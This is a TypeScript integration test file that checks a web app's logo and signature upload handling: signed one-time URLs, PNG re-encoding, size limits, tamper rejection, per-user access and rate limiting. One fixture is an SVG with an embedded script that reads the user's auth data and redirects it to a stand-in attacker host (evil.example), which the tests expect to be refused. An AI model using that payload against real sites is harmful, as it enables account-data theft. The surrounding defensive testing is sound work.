import fs from 'node:fs';
import path from 'node:path';
import {
  ApiErrorBodySchema,
  CompanyBrandingSchema,
  SaveLogoResponseSchema,
  SignatureUploadResponseSchema,
  UploadUrlResponseSchema,
} from '@pipeproof/contracts';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { uploadedImages } from '../src/db/schema';
import { createUploadUrlSigner } from '../src/modules/uploads/upload-url-signature';
import { setUserTier } from '../src/modules/users/set-user-tier';
import { postSignature, signUp, type Browser } from './support/browser';
import { TEST_AUTH_SECRET } from './support/start-test-app';
import { useTestApp, withTestApp } from './support/use-test-app';

const server = useTestApp({ env: { UPLOAD_RATE_LIMIT_MAX: '1000' } });

async function professional(): Promise<Browser> {
  const browser = server.browser();
  const { email } = await signUp(browser);
  await setUserTier(server.database.db, email, 'professional');
  return browser;
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A 200×80 logo (product.md §9's recommended size): blue with an orange block. */
async function makeLogo(format: 'png' | 'jpeg' | 'webp' | 'gif'): Promise<Buffer> {
  const base = sharp({
    create: { width: 200, height: 80, channels: 3, background: { r: 30, g: 64, b: 175 } },
  }).composite([
    {
      input: await sharp({
        create: { width: 60, height: 40, channels: 3, background: { r: 245, g: 158, b: 11 } },
      })
        .png()
        .toBuffer(),
      left: 10,
      top: 20,
    },
  ]);
  return base.toFormat(format).toBuffer();
}

const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="200" height="80">' +
    '<script>fetch("/api/auth/user").then(r=>r.text()).then(t=>location="https://evil.example/?"+t)</script>' +
    '<rect width="200" height="80" fill="#1e40af"/></svg>',
);
const TEXT_FILE = Buffer.from('Not an image at all, just notes renamed to logo.png\n'.repeat(20));

async function uploadUrl(browser: Browser): Promise<string> {
  const response = await browser.post('/api/company-branding/upload-url');
  expect(response.status).toBe(200);
  return UploadUrlResponseSchema.parse(await response.json()).uploadURL;
}

function put(browser: Browser, url: string, body: Buffer, contentType = 'image/png') {
  return fetch(new URL(url, server.url), {
    method: 'PUT',
    headers: { 'content-type': contentType, origin: browser.origin },
    body,
  });
}

/** product.md §7: the upload URL without its query string. */
const withoutQuery = (url: string) => url.split('?')[0] ?? '';

async function uploadLogo(browser: Browser, file: Buffer, contentType = 'image/png') {
  const url = await uploadUrl(browser);
  const putResponse = await put(browser, url, file, contentType);
  const logoResponse = await browser.post('/api/company-branding/logo', {
    logoUrl: withoutQuery(url),
  });
  return { url, putResponse, logoResponse };
}

async function errorOf(response: Response, status: number) {
  expect(response.status, await response.clone().text()).toBe(status);
  return ApiErrorBodySchema.parse(await response.json());
}

function uploadsDir(...parts: string[]): string {
  return path.join(server.env.dataDir, 'uploads', ...parts);
}

describe('logo upload: upload-url → PUT → logo (product.md §7), local storage', () => {
  it('a PNG: stored, re-encoded, served to its owner with headers that stop it running', async () => {
    const browser = await professional();
    const logo = await makeLogo('png');
    const { url, putResponse, logoResponse } = await uploadLogo(browser, logo);
    expect(url).toMatch(
      /^\/api\/uploads\/[0-9a-f-]{36}\?purpose=logo&expires=\d+&signature=[\w-]{43}$/,
    );
    expect(putResponse.status).toBe(204);
    expect(logoResponse.status).toBe(200);
    const { logoUrl } = SaveLogoResponseSchema.parse(await logoResponse.json());
    expect(logoUrl).toBe(withoutQuery(url));

    const branding = CompanyBrandingSchema.parse(
      await (await browser.get('/api/company-branding')).json(),
    );
    expect(branding.logoUrl).toBe(logoUrl);

    const image = await browser.get(logoUrl);
    expect(image.status).toBe(200);
    expect(image.headers.get('content-type')).toBe('image/png');
    expect(image.headers.get('x-content-type-options')).toBe('nosniff');
    expect(image.headers.get('content-disposition')).toBe('inline; filename="logo.png"');
    expect(image.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    const bytes = Buffer.from(await image.arrayBuffer());
    expect(bytes.subarray(0, 8)).toEqual(PNG_SIGNATURE);
    const meta = await sharp(bytes).metadata();
    expect(meta).toMatchObject({ format: 'png', width: 200, height: 80 });
    // Same pixels as sent: the orange block is where it was.
    const { data } = await sharp(bytes)
      .extract({ left: 20, top: 30, width: 1, height: 1 })
      .raw()
      .toBuffer({ resolveWithObject: true });
    expect([...data.subarray(0, 3)]).toEqual([245, 158, 11]);

    // The raw upload is gone; only the re-encoded PNG is kept.
    const id = logoUrl.split('/').at(-1) ?? '';
    expect(fs.existsSync(uploadsDir('raw', id))).toBe(false);
    expect(fs.existsSync(uploadsDir('images', `${id}.png`))).toBe(true);
  });

  it('a JPEG is re-encoded to PNG', async () => {
    const browser = await professional();
    const jpeg = await makeLogo('jpeg');
    expect(jpeg.subarray(0, 3)).toEqual(Buffer.from([0xff, 0xd8, 0xff]));
    const { putResponse, logoResponse } = await uploadLogo(browser, jpeg, 'image/jpeg');
    expect(putResponse.status).toBe(204);
    const { logoUrl } = SaveLogoResponseSchema.parse(await logoResponse.json());
    const image = await browser.get(logoUrl);
    expect(image.headers.get('content-type')).toBe('image/png');
    const bytes = Buffer.from(await image.arrayBuffer());
    expect(bytes.subarray(0, 8)).toEqual(PNG_SIGNATURE);
    expect(await sharp(bytes).metadata()).toMatchObject({ format: 'png', width: 200, height: 80 });
  });

  it('WebP and GIF are accepted too (any image type, product.md §9)', async () => {
    const browser = await professional();
    for (const format of ['webp', 'gif'] as const) {
      const { putResponse, logoResponse } = await uploadLogo(browser, await makeLogo(format));
      expect(putResponse.status).toBe(204);
      expect(logoResponse.status).toBe(200);
    }
  });

  it('an SVG with a script is refused, whatever it claims to be', async () => {
    const browser = await professional();
    const { putResponse, logoResponse } = await uploadLogo(browser, SVG_WITH_SCRIPT, 'image/png');
    const error = await errorOf(putResponse, 400);
    expect(error.message).toContain('SVG images are not accepted');
    const logoError = await errorOf(logoResponse, 400);
    expect(logoError).toMatchObject({ field: 'logoUrl' });
    expect(logoError.message).toContain('has not been uploaded');
    const branding = CompanyBrandingSchema.parse(
      await (await browser.get('/api/company-branding')).json(),
    );
    expect(branding.logoUrl).toBe('');
  });

  it('a text file renamed to .png is refused', async () => {
    const browser = await professional();
    const { putResponse } = await uploadLogo(browser, TEXT_FILE, 'image/png');
    const error = await errorOf(putResponse, 400);
    expect(error.message).toBe(
      'Invalid file type. Please select an image file (PNG, JPG, GIF, etc.).',
    );
  });

  it('a PNG signature followed by junk is refused when decoded', async () => {
    const browser = await professional();
    const fake = Buffer.concat([(await makeLogo('png')).subarray(0, 40), Buffer.alloc(500, 7)]);
    const { putResponse, logoResponse } = await uploadLogo(browser, fake);
    expect(putResponse.status).toBe(204);
    const error = await errorOf(logoResponse, 400);
    expect(error.message).toContain('could not be read');
  });

  it('a 6 MB file is refused with 413 and a clear message', async () => {
    const browser = await professional();
    const big = Buffer.concat([await makeLogo('png'), Buffer.alloc(6 * 1024 * 1024, 1)]);
    const url = await uploadUrl(browser);
    const error = await errorOf(await put(browser, url, big), 413);
    expect(error.message).toBe('File too large. Please select a file smaller than 5MB.');
    // Nothing was kept, and the link can still be used for a right-sized file.
    expect(fs.existsSync(uploadsDir('raw', withoutQuery(url).split('/').at(-1) ?? ''))).toBe(false);
    expect((await put(browser, url, await makeLogo('png'))).status).toBe(204);
  });

  it('exactly 5 MB (5242880 bytes) is still accepted at the door', async () => {
    const browser = await professional();
    const png = await makeLogo('png');
    const padded = Buffer.concat([png, Buffer.alloc(5_242_880 - png.length)]);
    expect(padded.length).toBe(5_242_880);
    const url = await uploadUrl(browser);
    expect((await put(browser, url, padded)).status).toBe(204);
  });

  it('an empty PUT is refused', async () => {
    const browser = await professional();
    const url = await uploadUrl(browser);
    const error = await errorOf(await put(browser, url, Buffer.alloc(0)), 400);
    expect(error.message).toContain('empty');
  });

  it('an upload URL works once', async () => {
    const browser = await professional();
    const url = await uploadUrl(browser);
    expect((await put(browser, url, await makeLogo('png'))).status).toBe(204);
    const error = await errorOf(await put(browser, url, await makeLogo('png')), 409);
    expect(error.message).toContain('already been used');
  });

  it('an expired upload URL is refused', async () => {
    const browser = await professional();
    const url = await uploadUrl(browser);
    const id = withoutQuery(url).split('/').at(-1) ?? '';
    const expires = Math.floor(Date.now() / 1000) - 1;
    const signature = createUploadUrlSigner(TEST_AUTH_SECRET).sign({
      id,
      purpose: 'logo',
      expires,
    });
    const expired = `/api/uploads/${id}?purpose=logo&expires=${expires}&signature=${signature}`;
    const error = await errorOf(await put(browser, expired, await makeLogo('png')), 403);
    expect(error.message).toBe('This upload link has expired. Please start the upload again.');
  });

  it.each([
    [
      'a later expiry',
      (q: URLSearchParams) => q.set('expires', String(Number(q.get('expires')) + 3600)),
    ],
    ['another purpose', (q: URLSearchParams) => q.set('purpose', 'signature')],
    ['a changed signature', (q: URLSearchParams) => q.set('signature', 'A'.repeat(43))],
    ['no signature', (q: URLSearchParams) => q.delete('signature')],
  ])('a tampered upload URL (%s) is refused', async (_label, tamper) => {
    const browser = await professional();
    const url = new URL(await uploadUrl(browser), server.url);
    tamper(url.searchParams);
    const error = await errorOf(
      await put(browser, url.pathname + url.search, await makeLogo('png')),
      403,
    );
    expect(error.message).toBe('This upload link is not valid. Please start the upload again.');
  });

  it("another upload's id with this URL's signature is refused", async () => {
    const browser = await professional();
    const first = new URL(await uploadUrl(browser), server.url);
    const second = new URL(await uploadUrl(browser), server.url);
    const forged = `${second.pathname}${first.search}`;
    expect((await put(browser, forged, await makeLogo('png'))).status).toBe(403);
  });

  it("another user's image is a 404, and cannot become their logo", async () => {
    const owner = await professional();
    const other = await professional();
    const { logoResponse } = await uploadLogo(owner, await makeLogo('png'));
    const { logoUrl } = SaveLogoResponseSchema.parse(await logoResponse.json());
    expect((await owner.get(logoUrl)).status).toBe(200);

    const error = await errorOf(await other.get(logoUrl), 404);
    expect(error.message).toBe('Image not found.');
    expect((await server.browser().get(logoUrl)).status).toBe(401);
    const missing = await errorOf(await other.get('/api/uploads/not-a-uuid'), 404);
    expect(missing.message).toBe('Image not found.');

    const steal = await errorOf(await other.post('/api/company-branding/logo', { logoUrl }), 400);
    expect(steal.field).toBe('logoUrl');
    const save = await errorOf(
      await other.post('/api/company-branding', { companyName: 'Thief Ltd', logoUrl }),
      400,
    );
    expect(save.field).toBe('logoUrl');
  });

  it('logoUrl must be an upload URL of this server', async () => {
    const browser = await professional();
    for (const logoUrl of ['https://evil.example/x.png', '/api/uploads/123', 'not a url']) {
      const error = await errorOf(
        await browser.post('/api/company-branding/logo', { logoUrl }),
        400,
      );
      expect(error).toMatchObject({ field: 'logoUrl' });
    }
    const missing = await errorOf(await browser.post('/api/company-branding/logo', {}), 400);
    expect(missing.field).toBe('logoUrl');
  });

  it('a new logo replaces the old one, whose image is deleted', async () => {
    const browser = await professional();
    const first = SaveLogoResponseSchema.parse(
      await (await uploadLogo(browser, await makeLogo('png'))).logoResponse.json(),
    );
    const second = SaveLogoResponseSchema.parse(
      await (await uploadLogo(browser, await makeLogo('jpeg'))).logoResponse.json(),
    );
    expect(second.logoUrl).not.toBe(first.logoUrl);
    expect((await browser.get(first.logoUrl)).status).toBe(404);
    expect((await browser.get(second.logoUrl)).status).toBe(200);
    const firstId = first.logoUrl.split('/').at(-1) ?? '';
    expect(fs.existsSync(uploadsDir('images', `${firstId}.png`))).toBe(false);
    const rows = await server.database.db
      .select()
      .from(uploadedImages)
      .where(eq(uploadedImages.id, firstId));
    expect(rows).toEqual([]);
  });

  it('saving the form keeps the logo when logoUrl is left out, and removes it with ""', async () => {
    const browser = await professional();
    const { logoUrl } = SaveLogoResponseSchema.parse(
      await (await uploadLogo(browser, await makeLogo('png'))).logoResponse.json(),
    );
    const kept = CompanyBrandingSchema.parse(
      await (await browser.post('/api/company-branding', { companyName: 'Keep Co' })).json(),
    );
    expect(kept.logoUrl).toBe(logoUrl);
    const same = CompanyBrandingSchema.parse(
      await (
        await browser.post('/api/company-branding', { companyName: 'Keep Co', logoUrl })
      ).json(),
    );
    expect(same.logoUrl).toBe(logoUrl);
    const removed = CompanyBrandingSchema.parse(
      await (
        await browser.post('/api/company-branding', { companyName: 'Keep Co', logoUrl: '' })
      ).json(),
    );
    expect(removed.logoUrl).toBe('');
    expect((await browser.get(logoUrl)).status).toBe(404);
  });
});

describe('POST /api/upload/signature (multipart, product.md §7)', () => {
  it('a PNG signature is stored, re-encoded and becomes engineerSignatureUrl', async () => {
    const browser = await professional();
    const png = await sharp({
      create: { width: 400, height: 150, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } },
    })
      .png()
      .toBuffer();
    const response = await postSignature(browser, png);
    expect(response.status).toBe(200);
    const { url } = SignatureUploadResponseSchema.parse(await response.json());
    expect(url).toMatch(/^\/api\/uploads\/[0-9a-f-]{36}$/);
    const branding = CompanyBrandingSchema.parse(
      await (await browser.get('/api/company-branding')).json(),
    );
    expect(branding.engineerSignatureUrl).toBe(url);
    const image = await browser.get(url);
    expect(image.headers.get('content-disposition')).toBe('inline; filename="signature.png"');
    const meta = await sharp(Buffer.from(await image.arrayBuffer())).metadata();
    expect(meta).toMatchObject({ format: 'png', width: 400, height: 150, hasAlpha: true });
  });

  it('refuses an SVG, a renamed text file and a 6 MB file', async () => {
    const browser = await professional();
    const svg = await errorOf(await postSignature(browser, SVG_WITH_SCRIPT), 400);
    expect(svg.message).toContain('SVG');
    const text = await errorOf(await postSignature(browser, TEXT_FILE), 400);
    expect(text.message).toContain('Invalid file type');
    const big = Buffer.concat([await makeLogo('png'), Buffer.alloc(6 * 1024 * 1024, 1)]);
    const tooLarge = await errorOf(await postSignature(browser, big), 413);
    expect(tooLarge.message).toBe('File too large. Please select a file smaller than 5MB.');
    const branding = CompanyBrandingSchema.parse(
      await (await browser.get('/api/company-branding')).json(),
    );
    expect(branding.engineerSignatureUrl).toBe('');
  });

  it('refuses a request that is not multipart, or has no file', async () => {
    const browser = await professional();
    const json = await errorOf(await browser.post('/api/upload/signature', { file: 'x' }), 400);
    expect(json.message).toContain('multipart/form-data');
    const form = new FormData();
    form.append('name', 'no file here');
    const noFile = await fetch(new URL('/api/upload/signature', server.url), {
      method: 'POST',
      headers: { origin: browser.origin, cookie: browser.cookieHeader() },
      body: form,
    });
    expect((await errorOf(noFile, 400)).field).toBe('file');
  });
});

describe('upload rate limit', () => {
  it('answers 429 after UPLOAD_RATE_LIMIT_MAX uploads in a minute', async () => {
    await withTestApp({ env: { UPLOAD_RATE_LIMIT_MAX: '2' } }, async (limited) => {
      const browser = limited.browser();
      const { email } = await signUp(browser);
      await setUserTier(limited.database.db, email, 'professional');
      expect((await browser.post('/api/company-branding/upload-url')).status).toBe(200);
      expect((await browser.post('/api/company-branding/upload-url')).status).toBe(200);
      const error = await errorOf(await browser.post('/api/company-branding/upload-url'), 429);
      expect(error.message).toContain('Please wait a minute');
    });
  });
});
